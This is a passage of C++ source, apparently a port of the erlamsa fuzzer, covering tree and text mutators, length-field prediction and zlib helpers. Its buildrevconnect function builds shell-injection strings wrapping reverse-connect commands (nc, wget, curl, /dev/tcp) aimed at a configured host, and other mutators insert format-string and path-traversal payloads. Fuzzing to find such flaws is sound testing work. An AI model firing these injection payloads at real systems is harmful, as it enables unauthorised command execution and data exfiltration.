  ll = flush_bvecs(abal, rest);
  return d;
}
int sed_fuse_old(Ctx& c, BList& ll, Muta& m) {                                // :405-427
  if (!m.fo_has) { m.fo_block = ll[0]; m.fo_has = true; }                     // sed_fuse_old -> remember(H)
  Bytes h = ll[0], a1, a2, o1, o2; halve(h, &a1, &a2); halve(m.fo_block, &o1, &o2);
  Bytes a = fuse(c, a1, o1);
  Bytes b = fuse(c, o2, a2);
  uint64_t swap = c.rnd.rand(3);
  int d = c.rnd.rand_delta();
  if (swap == 0) m.fo_block = h;
  BList t(ll.begin() + 1, ll.end());
  ll = flush_bvecs(a, flush_bvecs(b, t));
  return d;
}

// ---------------------------------------------------------------------------
// Guessed parse-tree mutations (erlamsa_mutations.erl:787-1023)
// ---------------------------------------------------------------------------
struct Term;  // byte | list
typedef std::shared_ptr<const Term> TermP;
struct Term { bool is_list; uint8_t b; std::vector<TermP> kids; size_t flat; uint64_t hash; };
TermP mk_byte(uint8_t b) { auto t = std::make_shared<Term>(); t->is_list = false; t->b = b; t->flat = 1; t->hash = 0x9E3779B97F4A7C15ull * (b + 1); return t; }
TermP mk_list(std::vector<TermP> k) {
  auto t = std::make_shared<Term>(); t->is_list = true; t->b = 0; t->kids = std::move(k);
  size_t f = 0; uint64_t h = 0xCBF29CE484222325ull;
  for (auto& x : t->kids) { f += x->flat; h = (h ^ x->hash) * 0x100000001B3ull; h ^= h >> 29; }
  t->flat = f; t->hash = h ^ 0x5555555555555555ull;
  return t;
}
// structural equality (=:=); flattened size and a structural hash are cached per node so that
// unequal subtrees are rejected without walking them
bool term_eq(const TermP& a, const TermP& b) {
  if (a.get() == b.get()) return true;
  if (a->is_list != b->is_list) return false;
  if (!a->is_list) return a->b == b->b;
  if (a->flat != b->flat || a->hash != b->hash || a->kids.size() != b->kids.size()) return false;
  for (size_t i = 0; i < a->kids.size(); i++) if (!term_eq(a->kids[i], b->kids[i])) return false;
  return true;
}
// Erlang term order restricted to {integer, list}: number < list; lists compare elementwise, [] < [_|_]
int term_cmp(const TermP& a, const TermP& b) {
  if (!a->is_list && !b->is_list) return a->b < b->b ? -1 : (a->b > b->b ? 1 : 0);
  if (!a->is_list) return -1;
  if (!b->is_list) return 1;
  size_t n = std::min(a->kids.size(), b->kids.size());
  for (size_t i = 0; i < n; i++) { int c = term_cmp(a->kids[i], b->kids[i]); if (c) return c; }
  return a->kids.size() < b->kids.size() ? -1 : (a->kids.size() > b->kids.size() ? 1 : 0);
}
void term_flatten(const TermP& t, Bytes& out) { if (!t->is_list) out.push_back(t->b); else for (auto& k : t->kids) term_flatten(k, out); }
void terms_flatten(const std::vector<TermP>& l, size_t from, Bytes& out) { for (size_t i = from; i < l.size(); i++) term_flatten(l[i], out); }

int usual_delims(uint8_t c) {                                                 // :791-798
  switch (c) { case 40: return 41; case 91: return 93; case 60: return 62; case 123: return 125; case 34: return 34; case 39: return 39; }
  return -1;
}
// grow/3 :800-823 + partial_parse/1 :883-905, restated with an explicit stack instead of the
// reference's recursion.  Semantics kept: a closer only matches the innermost open node; when the
// input ends inside open nodes, their partial contents are spliced flat into the parent (:817), which
// for the whole chain of open frames is simply their concatenation bottom-up (each frame was being
// appended at the end of its parent) — done once here, the level-by-level splice of a literal
// translation is quadratic on text full of unclosed openers.
std::vector<TermP> partial_parse(const Bytes& in) {
  struct Frame { std::vector<TermP> v; int close; };
  std::vector<Frame> st; st.push_back(Frame{{}, -1});
  for (size_t pos = 0; pos < in.size(); pos++) {
    uint8_t h = in[pos];
    if (st.size() > 1 && (int)h == st.back().close) {
      st.back().v.push_back(mk_byte(h));
      TermP node = mk_list(std::move(st.back().v));
      st.pop_back();
      st.back().v.push_back(std::move(node));
      continue;
    }
    int nc = usual_delims(h);
    if (nc < 0) { st.back().v.push_back(mk_byte(h)); continue; }
    st.push_back(Frame{{}, nc});
    st.back().v.push_back(mk_byte(h));
  }
  std::vector<TermP> out = std::move(st[0].v);
  for (size_t i = 1; i < st.size(); i++) out.insert(out.end(), st[i].v.begin(), st[i].v.end());
  return out;
}
// sublists/2 :838-845 — the reference conses each node in front while walking in pre-order, i.e.
// the result is the pre-order list reversed.
void sublists_pre(const std::vector<TermP>& l, std::vector<TermP>& pre) {
  for (auto& h : l) if (h->is_list) { pre.push_back(h); sublists_pre(h->kids, pre); }
}
std::vector<TermP> sublists(const std::vector<TermP>& l) { std::vector<TermP> f; sublists_pre(l, f); std::reverse(f.begin(), f.end()); return f; }

// edit_sublist/3 :858-869, flattened on the fly.  `op(list, idx, out)` emits the
// flattening of Op([H|T]) where [H|T] = l[idx..].
typedef std::function<void(const std::vector<TermP>&, size_t, Bytes&)> TreeOp;
void edit_sublist(Ctx& c, const std::vector<TermP>& l, const TermP& sub, const TreeOp& op, Bytes& out) {
  for (size_t i = 0; i < l.size(); i++) {
    if (sub && term_eq(l[i], sub)) { op(l, i, out); return; }
    if (l[i]->is_list) edit_sublist(c, l[i]->kids, sub, op, out); else out.push_back(l[i]->b);
    c.check_cap(out.size());
  }
}
int sed_tree_op(Ctx& c, BList& ll, int fn) {                                  // :917-936
  if (binarish(ll[0])) return -1;
  std::vector<TermP> lst = partial_parse(ll[0]);
  std::vector<TermP> subs = sublists(lst);
  TermP sub; if (!subs.empty()) sub = subs[c.rnd.rand_elem_idx(subs.size())];   // pick_sublist :847-854
  Bytes out;
  TreeOp op;
  if (fn == M_TR2) op = [](const std::vector<TermP>& l, size_t i, Bytes& o) { term_flatten(l[i], o); terms_flatten(l, i, o); };  // [H|Node]
  else op = [](const std::vector<TermP>& l, size_t i, Bytes& o) { terms_flatten(l, i + 1, o); };                               // T
  edit_sublist(c, lst, sub, op, out);
  ll[0] = out;
  return 1;
}
void edit_sublists_map(const std::vector<TermP>& l, const TermP& a, const TermP& b, Bytes& out) {  // edit_sublists/2 :873-881
  for (auto& h : l) {
    if (h->is_list) {
      // gb_trees: enter(A, ->B) then enter(B, ->A): if A == B the second wins (A -> A)
      if (term_eq(h, b)) term_flatten(a, out);
      else if (term_eq(h, a)) term_flatten(b, out);
      else edit_sublists_map(h->kids, a, b, out);
    } else out.push_back(h->b);
  }
}
int sed_tree_swap(Ctx& c, BList& ll, int fn) {                                // :940-971
  if (binarish(ll[0])) return -1;
  std::vector<TermP> lst = partial_parse(ll[0]);
  std::vector<TermP> subs = sublists(lst);
  if (subs.size() < 2) return -1;
  std::vector<size_t> idx = c.rnd.reservoir_sample_idx(subs.size(), 2);
  Bytes out;
  if (fn == M_TS1) {                                                          // sed_tree_swap_one :940-943
    std::vector<TermP> two = {subs[idx[0]], subs[idx[1]]};
    std::vector<TermP> p = c.rnd.random_permutation(two, [](const TermP& x, const TermP& y) { return term_cmp(x, y) < 0; });
    TermP a = p[0], b = p[1];
    edit_sublist(c, lst, a, [b](const std::vector<TermP>& l, size_t i, Bytes& o) { term_flatten(b, o); terms_flatten(l, i + 1, o); }, out);
  } else {                                                                    // sed_tree_swap_two :948-952
    edit_sublists_map(lst, subs[idx[0]], subs[idx[1]], out);
  }
  ll[0] = out;
  return 1;
}
void repeat_path(Ctx& c, const TermP& parent, const TermP& child, uint64_t n, Bytes& out) {  // :975-985
  if (n < 2) { term_flatten(parent, out); return; }
  // (the 256 MB process-memory guard at :979-981 is BEAM-specific; the engine cap replaces it)
  edit_sublist(c, parent->kids, child, [&](const std::vector<TermP>& l, size_t i, Bytes& o) {
    repeat_path(c, parent, child, n - 1, o); terms_flatten(l, i + 1, o); c.check_cap(o.size()); }, out);
}
int sed_tree_stutter(Ctx& c, BList& ll) {                                     // :1005-1023
  if (binarish(ll[0])) return -1;
  std::vector<TermP> lst = partial_parse(ll[0]);
  std::vector<TermP> subs = sublists(lst);
  std::vector<TermP> rs = c.rnd.random_permutation(subs, [](const TermP& x, const TermP& y) { return term_cmp(x, y) < 0; });
  TermP parent, child;
  for (auto& h : rs) {                                                        // choose_stutr_nodes :994-1000
    std::vector<TermP> s2 = sublists(h->kids);                                // choose_child :987-992
    if (s2.empty()) continue;
    child = s2[c.rnd.rand_elem_idx(s2.size())]; parent = h; break;
  }
  uint64_t nreps = c.rnd.rand_log_small(10);
  if (!parent) return -1;
  Bytes out;
  edit_sublist(c, lst, child, [&](const std::vector<TermP>& l, size_t i, Bytes& o) {
    repeat_path(c, parent, child, nreps, o); terms_flatten(l, i + 1, o); }, out);
  ll[0] = out;
  return 1;
}

// ---------------------------------------------------------------------------
// erlamsa_strlex.erl
// ---------------------------------------------------------------------------
struct Chunk { int type; /*0 text,1 byte,2 delimited*/ Bytes bs; uint8_t l = 0, r = 0; };
bool texty(uint8_t b) {                                                       // :45-52
  if (b < 9) return false;
  if (b > 126) return false;
  if (b > 31) return true;
  return b == 9 || b == 10 || b == 13;
}
bool texty_enough(const Bytes& s, size_t pos) {                               // :54-64 (MIN_TEXTY=6)
  for (int n = 6; n > 0; n--, pos++) { if (pos >= s.size()) return true; if (!texty(s[pos])) return false; }
  return true;
}
std::vector<Chunk> lex(const Bytes& s) {                                      // :75-142
  std::vector<Chunk> chunks; size_t pos = 0; Bytes rawr;
  auto flush_raw = [&]() { if (!rawr.empty()) { chunks.push_back({1, rawr}); rawr.clear(); } };
  while (true) {
    // string_lex_step
    if (pos >= s.size()) { flush_raw(); return chunks; }
    if (!texty_enough(s, pos)) { rawr.push_back(s[pos++]); continue; }
    flush_raw();
    // step_text(Lst, [], Chunks)
    Bytes seen;
    bool back_to_step = false;
    while (!back_to_step) {
      if (pos >= s.size()) { chunks.push_back({0, seen}); return chunks; }     // :101-102 (may be empty text!)
      uint8_t h = s[pos];
      if (h == 34 || h == 39) {                                               // :103-106 step_delimited(T, H, H, [], [H|Seenr])
        size_t p2 = pos + 1; Bytes after; uint8_t endc = h; bool resolved = false;
        while (!resolved) {
          if (p2 >= s.size()) {                                               // :120-121 flush text AfterR ++ PrevR
            Bytes t = seen; t.push_back(h); t.insert(t.end(), after.begin(), after.end());
            chunks.push_back({0, t}); return chunks;
          }
          uint8_t x = s[p2];
          if (x == endc) {                                                    // :123-129
            if (!seen.empty()) chunks.push_back({0, seen});
            Chunk d; d.type = 2; d.bs = after; d.l = h; d.r = endc; chunks.push_back(d);
            pos = p2 + 1; resolved = true; back_to_step = true;
          } else if (x == 92 && p2 + 1 >= s.size()) { after.push_back(92); p2++; }           // :131-132
          else if (x == 92) {                                                 // :133-137
            if (texty(s[p2 + 1])) { after.push_back(92); after.push_back(s[p2 + 1]); p2 += 2; }
            else { after.push_back(92); p2++; }
          } else if (texty(x)) { after.push_back(x); p2++; }                  // :139-140
          else {                                                              // :141 flush text (AfterR ++ PrevR), resume lexing AT x
            Bytes t = seen; t.push_back(h); t.insert(t.end(), after.begin(), after.end());
            chunks.push_back({0, t}); pos = p2; resolved = true; back_to_step = true;
          }
        }
      } else if (texty(h)) { seen.push_back(h); pos++; }                      // :109
      else { chunks.push_back({0, seen}); back_to_step = true; }              // :111 (pos stays)
    }
  }
}
Bytes unlex(const std::vector<Chunk>& cs) {                                   // :146-155
  Bytes o;
  for (auto& c : cs) { if (c.type == 2) { o.push_back(c.l); o.insert(o.end(), c.bs.begin(), c.bs.end()); o.push_back(c.r); } else o.insert(o.end(), c.bs.begin(), c.bs.end()); }
  return o;
}

// ---------------------------------------------------------------------------
// ASCII mutators (erlamsa_mutations.erl:430-651)
// ---------------------------------------------------------------------------
bool stringy(const std::vector<Chunk>& cs) { for (auto& c : cs) if (c.type != 1) return true; return false; }   // :438-442
const std::vector<Bytes>& silly_strings() {                                   // :444-446
  static std::vector<Bytes> v = {{'%', 'n'}, {'%', 'n'}, {'%', 's'}, {'%', 'd'}, {'%', 'p'}, {'%', '#', 'x'}, {0},
                                 {'a', 'a', 'a', 'a', '%', 'd', '%', 'n'}, {10}, {13}, {9}, {8}};
  return v;
}
const std::vector<Bytes>& delimeters() {                                      // :448-451
  static std::vector<Bytes> v = {{'\''}, {'"'}, {'\''}, {'"'}, {'\''}, {'"'}, {'&'}, {':'}, {'|'}, {';'}, {'\\'}, {10}, {13}, {9}, {' '},
                                 {'`'}, {0}, {']'}, {'['}, {'>'}, {'<'}};
  return v;
}
std::string fmt2(const std::string& f, const std::string& a, const std::string& b) {
  // io_lib:format with ~s / ~p directives only (two args)
  std::string o; int k = 0;
  for (size_t i = 0; i < f.size(); i++) {
    if (f[i] == '~' && i + 1 < f.size() && (f[i + 1] == 's' || f[i + 1] == 'p')) { o += (k++ == 0 ? a : b); i++; }
    else o.push_back(f[i]);
  }
  return o;
}
Bytes buildrevconnect(Ctx& c) {                                               // :514-519
  static const char* inj[] = {"';~s;'", "\";~s;\"", ";~s;", "|~s#", "^ ~s ^", "& ~s &", "&& ~s &&", "|| ~s ||", "%0D~s%0D", "`~s`"};   // :453-459
  static const char* rev[] = {"calc.exe & notepad.exe ~s ~p ", "nc ~s ~p", "wget http://~s:~p", "curl ~s ~p",
                              "exec 3<>/dev/tcp/~s/~p", "sleep 100000 # ~s ~p ", "echo>/tmp/erlamsa.~s.~p"};                       // :461-466
  std::string i = inj[c.rnd.rand_elem_idx(10)];
  std::string r = rev[c.rnd.rand_elem_idx(7)];
  std::string inner = fmt2(r, c.cfg->ssrf_host, std::to_string(c.cfg->ssrf_port));
  std::string s = fmt2(i, inner, "");
  return Bytes(s.begin(), s.end());
}
Bytes random_badness(Ctx& c) {                                                // :468-476
  uint64_t n = c.rnd.rand(20) + 1; Bytes out;
  for (uint64_t i = 0; i < n; i++) { const Bytes& x = silly_strings()[c.rnd.rand_elem_idx(silly_strings().size())]; out.insert(out.begin(), x.begin(), x.end()); }  // X ++ Out
  return out;
}
uint64_t rand_as_count(Ctx& c) {                                              // :485-499
  static const uint64_t t[] = {127, 128, 255, 256, 16383, 16384, 32767, 32768, 65535, 65536};
  uint64_t ty = c.rnd.rand(11);
  if (ty < 10) return t[ty];
  return c.rnd.rand(1024);
}
enum TextMuta { T_INSERT_BADNESS, T_REPLACE_BADNESS, T_INSERT_TRAVERSAL, T_INSERT_AAAS, T_INSERT_NULL, T_INSERT_DELIMETER, T_INSERT_SHELLINJ };
Bytes insert_traversal(Ctx& c, uint8_t symb) {                                // :506-508
  uint64_t n = c.rnd.erand(10); Bytes o = {symb};
  for (uint64_t i = 0; i < n; i++) { o.push_back('.'); o.push_back('.'); o.push_back(symb); }
  return o;
}
Bytes ins_before(const Bytes& l, uint64_t p, const Bytes& what) {  // applynth(P, Lst, fun(E,R) -> What ++ [E|R])
  Bytes o(l.begin(), l.begin() + (p - 1)); o.insert(o.end(), what.begin(), what.end()); o.insert(o.end(), l.begin() + (p - 1), l.end()); return o;
}
Bytes mutate_text(Ctx& c, int tm, const Bytes& lst) {                         // :521-563
  switch (tm) {
    case T_INSERT_BADNESS: {
      if (lst.empty()) return random_badness(c);
      uint64_t p = c.rnd.erand(lst.size()); Bytes bad = random_badness(c); return ins_before(lst, p, bad);
    }
    case T_REPLACE_BADNESS: {
      if (lst.empty()) return random_badness(c);
      uint64_t p = c.rnd.erand(lst.size()); Bytes bad = random_badness(c);
      // sublist(Lst, P-1) ++ overwrite(nthtail(P, Lst), Bad)   :479-483,533
      // overwrite/2 walks its FIRST argument (the old tail) and only falls back to the
      // second (Bad) when the tail is exhausted: element P is dropped, the tail is kept,
      // and the part of Bad longer than the tail is appended.
      Bytes o(lst.begin(), lst.begin() + (p - 1));
      Bytes tail(lst.begin() + p, lst.end());
      o.insert(o.end(), tail.begin(), tail.end());
      if (bad.size() > tail.size()) o.insert(o.end(), bad.begin() + tail.size(), bad.end());
      return o;
    }
    case T_INSERT_AAAS: {
      if (lst.empty()) { uint64_t n = rand_as_count(c); return Bytes(n, 97); }
      uint64_t n = rand_as_count(c); uint64_t p = c.rnd.erand(lst.size());
      Bytes o(lst.begin(), lst.begin() + (p - 1)); o.insert(o.end(), n, 97); o.insert(o.end(), lst.begin() + p, lst.end()); return o;
    }
    case T_INSERT_TRAVERSAL: {
      if (lst.empty()) return insert_traversal(c, '/');
      uint64_t p = c.rnd.erand(lst.size());
      uint8_t sy = c.rnd.rand_elem_idx(2) == 0 ? '\\' : '/';
      Bytes tr = insert_traversal(c, sy);
      Bytes o(lst.begin(), lst.begin() + (p - 1)); o.insert(o.end(), tr.begin(), tr.end()); o.insert(o.end(), lst.begin() + p, lst.end()); return o;
    }
    case T_INSERT_NULL: { Bytes o = lst; o.push_back(0); return o; }
    case T_INSERT_DELIMETER: {
      if (lst.empty()) return delimeters()[c.rnd.rand_elem_idx(delimeters().size())];   // [rand_elem(..)] flattens to the string
      uint64_t p = c.rnd.erand(lst.size());
      const Bytes& bad = delimeters()[c.rnd.rand_elem_idx(delimeters().size())];
      return ins_before(lst, p, bad);
    }
    case T_INSERT_SHELLINJ: {
      if (lst.empty()) return delimeters()[c.rnd.rand_elem_idx(delimeters().size())];
      uint64_t p = c.rnd.erand(lst.size());
      Bytes inj = buildrevconnect(c);
      return ins_before(lst, p, inj);
    }
  }
  return lst;
}
void string_generic_mutate(Ctx& c, std::vector<Chunk>& cs, const std::vector<int>& tms) {   // :571-583
  size_t l = cs.size();
  for (size_t r = 0; !((double)r > (double)l / 4.0); r++) {
    uint64_t p = c.rnd.erand(l);
    Chunk& el = cs[p - 1];
    if (el.type == 1) continue;
    int tm = tms[c.rnd.rand_elem_idx(tms.size())];                            // mutate_text_data :510-512
    el.bs = mutate_text(c, tm, el.bs);
    return;
  }
}
void string_delimeter_mutate(Ctx& c, std::vector<Chunk>& cs) {                // :626-644
  size_t l = cs.size();
  for (size_t r = 0; !((double)r > (double)l / 4.0); r++) {
    uint64_t p = c.rnd.erand(l);
    Chunk& el = cs[p - 1];
    if (el.type == 1) continue;
    if (el.type == 0) {
      static const int opts[] = {T_INSERT_DELIMETER, T_INSERT_DELIMETER, T_INSERT_DELIMETER, T_INSERT_SHELLINJ};
      int tm = opts[c.rnd.rand_elem_idx(4)];
      c.rnd.rand_elem_idx(1);                                                 // mutate_text_data's rand_elem over the 1-element list
      el.bs = mutate_text(c, tm, el.bs);
    } else {
      uint64_t dr = c.rnd.rand(4);                                            // drop_delimeter :615-622
      Chunk n; n.type = 0;
      if (dr == 0) { n.bs.push_back(el.l); n.bs.insert(n.bs.end(), el.bs.begin(), el.bs.end()); el = n; }
      else if (dr == 1) { n.bs = el.bs; n.bs.push_back(el.r); el = n; }
      else if (dr == 2) { n.bs = el.bs; el = n; }
    }
    return;
  }
}
int ascii_mutator(Ctx& c, BList& ll, int fn) {                                // construct_ascii_mutator :585-602
  std::vector<Chunk> cs = lex(ll[0]);
  c.own_aux = 0;
  if (!stringy(cs)) return -1;                                                // {Ascii_mutator, Ll, Meta, -1} :600-601
  c.own_aux = 1;                                                              // [{Name, D} | Meta] :598
  if (fn == M_AB) string_generic_mutate(c, cs, {T_INSERT_BADNESS, T_REPLACE_BADNESS, T_INSERT_TRAVERSAL, T_INSERT_AAAS, T_INSERT_NULL});
  else string_delimeter_mutate(c, cs);
  int d = c.rnd.rand_delta();
  ll[0] = unlex(cs);
  return d;
}

// ---------------------------------------------------------------------------
// erlamsa_field_predict.erl
// ---------------------------------------------------------------------------
struct Sizer { int size; bool big; uint64_t len; size_t a, b; };
void basic_u8len(const Bytes& bin, int64_t a, int64_t b, std::vector<Sizer>& out) {   // :50-58
  if (!(a < b && b > 0 && a < (int64_t)bin.size())) return;
  uint64_t len = bin[a];
  if ((int64_t)len == b - a - 1 && len > 2) out.push_back({8, true, len, (size_t)a, (size_t)b});
}
void simple_u8len(const Bytes& bin, int64_t a, std::vector<Sizer>& out) {     // :60-64
  for (int x = 0; x <= 8; x++) basic_u8len(bin, a, (int64_t)bin.size() - x, out);
}
void basic_len(const Bytes& bin, int64_t a, int64_t b, std::vector<Sizer>& out) {     // :66-79 (first matching clause only)
  if (!(a < b && b > 0 && a < (int64_t)bin.size())) return;
  size_t n = bin.size() - a;
  auto rd = [&](int bytes, bool big) -> uint64_t { uint64_t v = 0; for (int i = 0; i < bytes; i++) v = big ? (v << 8) | bin[a + i] : v | ((uint64_t)bin[a + i] << (8 * i)); return v; };
  const int szs[3] = {2, 4, 8};
  for (int pass = 0; pass < 2; pass++) for (int k = 0; k < 3; k++) {
    int w = szs[k]; if (n < (size_t)w) continue;
    uint64_t len = rd(w, pass == 0);
    int64_t want = b - a - w;
    if (want >= 0 && len == (uint64_t)want && len > 2) { out.push_back({w * 8, pass == 0, len, (size_t)a, (size_t)b}); return; }
  }
}
void simple_len(const Bytes& bin, int64_t a, int64_t b, std::vector<Sizer>& out) {    // :81-89
  basic_len(bin, a, b, out); basic_len(bin, a, b - 1, out); basic_len(bin, a, b - 2, out); basic_len(bin, a, b - 4, out); basic_len(bin, a, b - 8, out);
}
std::vector<Sizer> get_possible_simple_lens(Ctx& c, const Bytes& bin) {       // :91-105
  std::vector<Sizer> res;
  int64_t len = (int64_t)bin.size();
  if (len > 10) {
    int64_t sublen = std::min<int64_t>(len / 5, SIZER_MAX_FIRST_BYTES);
    std::vector<int64_t> varb;
    for (int64_t i = 0; i <= sublen; i++) varb.push_back((int64_t)c.rnd.rand_range(sublen, len));
    // AllRanges = [{A,Len} || A <- FirstSeq] ++ [{X,Y} || X <- FirstSeq, Y <- VarBSeq];
    // BigLens = foldl(prepend) => reversed range order; flatten([SmallLens | BigLens]).
    for (int64_t a = 0; a <= sublen; a++) simple_u8len(bin, a, res);
    for (int64_t x = sublen; x >= 0; x--) for (size_t yi = varb.size(); yi-- > 0;) simple_len(bin, x, varb[yi], res);
    for (int64_t a = sublen; a >= 0; a--) simple_len(bin, a, len, res);
  } else {
    for (int64_t x = 0; x <= 3; x++) { simple_len(bin, x, len, res); simple_u8len(bin, x, res); }
  }
  return res;
}
struct Csum { bool crc; size_t plen, blen; };
std::vector<Csum> get_possible_csum_locations(const Bytes& bin) {             // :131-161
  std::vector<Csum> out; if (bin.empty()) return out;
  size_t len = bin.size();
  size_t maxp = std::min<size_t>((size_t)std::trunc(2.0 * (double)len / 3.0), 30 * PREAMBLE_MAX_BYTES);
  for (size_t a = 0; a <= maxp; a++) {                                        // has_xor8_checksum :134-141
    if (len < a + 1) throw ErlCrash("badmatch: has_xor8_checksum");
    uint8_t x = 0; for (size_t i = a; i < len - 1; i++) x ^= bin[i];
    if (x == bin[len - 1]) out.push_back({false, a, len - a - 1});
  }
  for (size_t a = 0; a <= maxp; a++) {                                        // has_crc32_checksum :143-151
    if (len < a + 4) continue;
    uint32_t cc = otp::crc32(bin.data() + a, len - a - 4);
    uint32_t st = ((uint32_t)bin[len - 4] << 24) | ((uint32_t)bin[len - 3] << 16) | ((uint32_t)bin[len - 2] << 8) | bin[len - 1];
    if (cc == st) out.push_back({true, a, len - a - 4});
  }
  return out;
}
void put_int(Bytes& o, uint64_t v, int bits, bool big) {  // <<V:Bits/big|little>> two's-complement truncation
  int n = bits / 8;
  for (int i = 0; i < n; i++) { int sh = big ? 8 * (n - 1 - i) : 8 * i; o.push_back(sh >= 64 ? 0 : (uint8_t)(v >> sh)); }
}

// length_predict / mutate_length (erlamsa_mutations.erl:1107-1143)
int length_predict(Ctx& c, BList& ll) {
  Bytes bin = ll[0];
  std::vector<Sizer> cands = get_possible_simple_lens(c, bin);
  int64_t ei = c.rnd.rand_elem_idx(cands.size());
  if (ei < 0) return -2;                                                      // mutate_length(Binary, []) :1112
  const Sizer& e = cands[ei];
  int nb = e.size / 8;
  // extract_blob :112-117  (badmatch -> crash if the binary is too short)
  if (bin.size() < e.a + nb + e.len) throw ErlCrash("badmatch: extract_blob");
  Bytes h(bin.begin(), bin.begin() + e.a), blob(bin.begin() + e.a + nb, bin.begin() + e.a + nb + e.len), rest(bin.begin() + e.a + nb + e.len, bin.end());
  Bytes rb = c.rnd.random_block(nb);                                          // <<TmpNewLen:Size>> = random_block(Size/8)
  // TmpNewLen*2 may exceed 64 bits; only min(1000000, .) matters
  bool huge = false; uint64_t tmp = 0;
  for (int i = 0; i < nb; i++) { if (tmp >> 56) huge = true; tmp = (tmp << 8) | rb[i]; }
  uint64_t newlen = (huge || tmp >= ABSMAX_BINARY_BLOCK) ? ABSMAX_BINARY_BLOCK : std::min<uint64_t>(ABSMAX_BINARY_BLOCK, tmp * 2);
  uint64_t k = c.rnd.rand(7);
  Bytes out = h;
  switch (k) {
    case 0: put_int(out, 0, e.size, true); out.insert(out.end(), blob.begin(), blob.end()); out.insert(out.end(), rest.begin(), rest.end()); break;
    case 1: put_int(out, ~(uint64_t)0, e.size, true); out.insert(out.end(), blob.begin(), blob.end()); out.insert(out.end(), rest.begin(), rest.end()); break;
    case 2: {
      // fast_pseudorandom_block(NewLen) erlamsa_rnd.erl:155-160
      Bytes rnd;
      if (newlen < ABSMAXHALF_BINARY_BLOCK) rnd = c.rnd.random_block(newlen);
      else {
        Bytes rb2 = c.rnd.random_block(ABSMAXHALF_BINARY_BLOCK);
        uint64_t z = newlen - ABSMAXHALF_BINARY_BLOCK;            // <<42:Z8L, Rnd/binary>>: Z BITS wide
        if (z % 8 != 0) throw ErlCrash("badarg: bitstring in binary construction");
        Bytes pad(z / 8, 0); if (!pad.empty()) { pad.back() = 42; }  // 42 in the low bits of a z-bit big-endian field
        rnd = pad; rnd.insert(rnd.end(), rb2.begin(), rb2.end());
      }
      put_int(out, e.len, e.size, e.big); out.insert(out.end(), blob.begin(), blob.end()); out.insert(out.end(), rnd.begin(), rnd.end());
      out.insert(out.end(), rest.begin(), rest.end()); break;
    }
    case 3: put_int(out, newlen, e.size, e.big); out.insert(out.end(), rest.begin(), rest.end()); break;
    default: put_int(out, newlen, e.size, e.big); out.insert(out.end(), blob.begin(), blob.end()); out.insert(out.end(), rest.begin(), rest.end()); break;
  }
  ll[0] = out;
  return +1;
}

// ===========================================================================
// OTP zlib calls of the container paths, on libz itself
// ===========================================================================
namespace otpz {
// zlib:gunzip/1 of OTP 20.1 - 23 (lib/kernel zlib.erl + erts zlib_nif.c; the OTP target):
//   inflateInit(Z, 16 + ?MAX_WBITS, reset), inflate(Z, Data), inflateEnd(Z)
// The NIF's inflate remembers that a stream has ended (eos_seen); called again with input left and the `reset` behaviour it calls
// inflateReset and goes on: concatenated members are all decoded.  Bytes that are not another member raise data_error (incorrect
// header check), and inflateEnd raises data_error unless the LAST inflate call ended a stream (eos_seen) - an unfinished member or
// header.  false = the call raises error:data_error.  (OTP 18 - 20.0, the port driver: first member only, trailing bytes ignored -
// what this function did until round 4.)
bool gunzip(const Bytes& in, Bytes* out) {
  z_stream z; memset(&z, 0, sizeof(z));
  if (inflateInit2(&z, 16 + 15) != Z_OK) throw std::runtime_error("inflateInit2");
  out->clear(); bool eos_seen = false, raised = false;
  z.next_in = (Bytef*)in.data(); z.avail_in = (uInt)in.size();
  std::vector<uint8_t> buf(1 << 16);
  while (true) {
    if (eos_seen) {                                                            // zlib_nif.c: eos_seen && input left -> EOS_BEHAVIOR_RESET
      if (z.avail_in == 0) break;
      if (inflateReset(&z) != Z_OK) { raised = true; break; }
      eos_seen = false;
    }
    z.next_out = buf.data(); z.avail_out = (uInt)buf.size();
    int rc = inflate(&z, Z_NO_FLUSH);
    out->insert(out->end(), buf.data(), buf.data() + (buf.size() - z.avail_out));
    if (rc == Z_STREAM_END) { eos_seen = true; continue; }
    if (rc != Z_OK && rc != Z_BUF_ERROR) { raised = true; break; }             // data_error (need_dictionary cannot happen with a gzip wrapper)
    if (z.avail_in == 0 && z.avail_out != 0) break;                            // the input ran out inside a member
  }
  inflateEnd(&z);
  return !raised && eos_seen;                                                  // inflateEnd: data_error unless the end of a stream was seen
}
// zlib:inflateInit(Z), zlib:inflate(Z, Bin) and no inflateEnd (erlamsa_patterns.erl:232-234): what was decoded when the input ran
// out is the result; false = the call raises (data_error, {need_dictionary, _}).
bool inflate_noend(const Bytes& in, Bytes* out) {
  z_stream z; memset(&z, 0, sizeof(z));
  if (inflateInit(&z) != Z_OK) throw std::runtime_error("inflateInit");
  out->clear(); bool ok = true;
  z.next_in = (Bytef*)in.data(); z.avail_in = (uInt)in.size();
  std::vector<uint8_t> buf(1 << 16);
  while (true) {
    z.next_out = buf.data(); z.avail_out = (uInt)buf.size();
    int rc = inflate(&z, Z_NO_FLUSH);
    out->insert(out->end(), buf.data(), buf.data() + (buf.size() - z.avail_out));
    if (rc == Z_STREAM_END) break;
    if (rc == Z_DATA_ERROR || rc == Z_NEED_DICT || rc == Z_MEM_ERROR || rc == Z_STREAM_ERROR) { ok = false; break; }
    if (z.avail_in == 0 && z.avail_out != 0) break;                            // Z_OK / Z_BUF_ERROR with nothing left to read
  }
  inflateEnd(&z);
  return ok;
}
// deflateInit(Z, default, deflated, WindowBits, 8, default) + deflate(Z, Data, finish): 31 = zlib:gzip/1, 15 = deflateInit(Z, default),
// -15 = the raw stream zip:create writes
Bytes deflate_all(const Bytes& in, int window_bits) {
  z_stream z; memset(&z, 0, sizeof(z));
  if (deflateInit2(&z, Z_DEFAULT_COMPRESSION, Z_DEFLATED, window_bits, 8, Z_DEFAULT_STRATEGY) != Z_OK) throw std::runtime_error("deflateInit2");
  Bytes out(deflateBound(&z, (uLong)in.size()) + 64);
  z.next_in = (Bytef*)in.data(); z.avail_in = (uInt)in.size(); z.next_out = out.data(); z.avail_out = (uInt)out.size();
  int rc = deflate(&z, Z_FINISH);
  if (rc != Z_STREAM_END) { deflateEnd(&z); throw std::runtime_error("deflate"); }
  out.resize(z.total_out);
  deflateEnd(&z);
  return out;
}
}  // namespace otpz

// ===========================================================================
// OTP zip:foldl/3 (prim_zip) and zip:create/3 with [memory], as the ar pattern and the zip mutator use them
// (erlamsa_patterns.erl:193-213, erlamsa_mutations.erl:1149-1163).  OTP's stdlib is not under /root/reference: this restates
// prim_zip.erl / zip.erl of OTP 18 - 23 (the reference's CI range) for the archives they agree on, and says UNSUPPORTED
